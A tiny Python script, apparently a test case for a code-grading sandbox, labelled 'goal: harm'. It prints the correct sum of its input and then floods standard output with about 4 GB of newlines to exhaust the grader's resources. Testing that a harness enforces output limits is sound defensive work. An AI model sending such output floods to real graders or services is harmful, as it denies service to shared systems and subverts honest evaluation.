# family: resource; goal: harm
# The right answer, then up to 4 GB.
import sys

print(sum(int(x) for x in sys.stdin.read().split()), flush=True)
for _ in range(4000):
    sys.stdout.write("\n" * 1_000_000)
sys.stdout.write("x")
